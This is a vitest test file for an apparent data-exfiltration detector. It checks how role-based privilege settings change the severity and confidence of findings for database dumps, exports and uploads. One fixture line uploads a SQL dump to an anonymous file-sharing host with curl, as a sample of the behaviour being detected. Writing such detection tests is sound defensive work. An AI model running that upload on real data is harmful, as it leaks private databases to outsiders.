import { expect, it } from 'vitest';
import { Desk } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS, type User } from '../../support/story.ts';

const ADA: User = { uid: 510, name: 'ada', groups: ['admin'] };

it('an ignored role still feeds the chain, so a level of alert changes nothing but the silence', () => {
  const desk = new Desk({ user: ADA });
  desk.dump('Dropbox/a.sql');
  expect(desk.findings()).toEqual([]);
  expect(desk.findings({ userPrivilegeLevel: { admin: 'alert' } })).toMatchObject([
    { role: 'admin', stage: 'upload', severity: 'high', confidence: 'high' },
  ]);
});

it.each([
  {
    title: 'the tool row',
    stage: 'tool',
    severity: 'informational',
    confidence: 'medium',
    tell: (desk: Desk) => desk.type(PROGRAMS.psql, 'psql'),
  },
  {
    title: 'an export by lineage',
    stage: 'export',
    severity: 'low',
    confidence: 'high',
    tell: (desk: Desk) => desk.dump(),
  },
  {
    title: 'an export by time',
    stage: 'export',
    severity: 'informational',
    confidence: 'low',
    tell: (desk: Desk) => desk.save(),
  },
  {
    title: 'an upload',
    stage: 'upload',
    severity: 'medium',
    confidence: 'high',
    tell: (desk: Desk) => desk.dump('Dropbox/a.sql'),
  },
])('lower takes one step of severity and none of confidence from $title', ({ tell, ...found }) => {
  const desk = new Desk({ user: ADA });
  tell(desk);
  expect(desk.findings({ userPrivilegeLevel: { admin: 'lower' } })).toMatchObject([
    { stage: found.stage, severity: found.severity, confidence: found.confidence },
  ]);
});

it('lower with an anonymous service is as high as alert with a storage service', () => {
  const desk = new Desk({ user: ADA });
  desk.dump('Desktop/a.sql');
  desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://transfer.sh');
  expect(desk.findings({ userPrivilegeLevel: { admin: 'lower' } })).toMatchObject([
    { severity: 'high', serviceTier: 'anonymous' },
  ]);
});

it('informational is the floor', () => {
  const desk = new Desk({ complete: false });
  desk.type(PROGRAMS.psql, 'psql');
  expect(desk.findings({ userPrivilegeLevel: { unknown: 'lower' } })).toMatchObject([
    { role: 'unknown', severity: 'informational', confidence: 'low' },
  ]);
});

it('ignore for users without a role silences them, and nobody else', () => {
  const desk = new Desk();
  desk.dump('Dropbox/a.sql');
  expect(desk.findings({ userPrivilegeLevel: { unassigned: 'ignore' } })).toEqual([]);
  expect(desk.findings({ userPrivilegeLevel: { unknown: 'ignore' } })).toMatchObject([
    { stage: 'upload' },
  ]);
});

it('ignore for unknown is lifted by the record that names the role', () => {
  const desk = new Desk({ complete: false });
  const tool = desk.type(MAC_PROGRAMS.mariadb, 'mariadb');
  desk.story.host([desk.user], true).write(tool, desk.at('Desktop/a.csv'));
  expect(desk.emissions({ userPrivilegeLevel: { unknown: 'ignore' } })).toMatchObject([
    { activity: 'create', stage: 'export', role: 'unassigned' },
  ]);
});
